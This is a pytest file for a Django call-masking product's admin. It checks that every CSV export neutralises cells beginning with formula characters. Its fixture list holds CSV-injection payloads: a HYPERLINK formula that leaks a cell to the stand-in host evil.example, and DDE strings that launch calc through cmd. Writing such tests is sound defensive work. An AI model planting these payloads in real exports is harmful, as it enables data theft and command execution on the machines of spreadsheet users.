"""No CSV the product writes holds a cell a spreadsheet would evaluate (issue 25, finding 4).

Every export is found by enumeration (each admin URL named `*_export`, and the reports' CSV), fed
a session whose reference is a formula, and every cell of every file is checked.
"""

import csv
import io

import pytest
from django.urls import get_resolver, reverse

from callflows.models import Call
from masking.spreadsheets import DANGEROUS_START, neutralised
from tests.factories import VirtualNumberFactory, open_session

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export_urls() -> list[str]:
    admin_urls = get_resolver().namespace_dict["admin"][1]
    names = [
        name
        for name in admin_urls.reverse_dict
        if isinstance(name, str) and name.endswith("_export")
    ]
    urls = sorted(reverse(f"admin:{name}") for name in names)
    return urls + ["/admin/reports/?format=csv&start=2000-01-01&end=2100-01-01"]


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


@pytest.fixture
def hostile():
    vn = VirtualNumberFactory(number="+6531500101")
    for i, formula in enumerate(FORMULAS):
        session = open_session(
            virtual_number=vn, a=f"+659123{i:04d}", b=f"+659124{i:04d}", reference=formula
        )
        Call.objects.create(
            provider_session_id=formula,
            outcome="connect",
            status="COMPLETED",
            virtual_number=vn.number,
            caller=f"+659123{i:04d}",
            masking_session=session,
        )


def test_every_export_is_enumerated():
    urls = export_urls()
    assert len(urls) >= 4, urls  # sessions, pool, calls, reports
    assert any("maskingsession" in url for url in urls) and any("call" in url for url in urls)


@pytest.mark.parametrize("url", export_urls())
def test_no_export_holds_a_formula(admin_client, hostile, url):
    response = admin_client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    found = cells(response.getvalue())
    for cell in found:
        assert not cell.startswith(DANGEROUS_START) or neutralised(cell) == cell, cell
        assert neutralised(cell) == cell or cell.startswith("'")
    if "maskingsession" in url or "/call/" in url:  # the files that carry references
        assert f"'{FORMULAS[0]}" in found  # kept readable, as text


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+6591230001", "+6591230001"),  # a phone number: inert, kept readable
        ("+65 9123 ••01", "+65 9123 ••01"),
        ("-3", "-3"),
        ("+65 9123 0001 +A1", "'+65 9123 0001 +A1"),
        ("booking-77", "booking-77"),
        (42, 42),
    ],
)
def test_the_rule(value, written):
    assert neutralised(value) == written
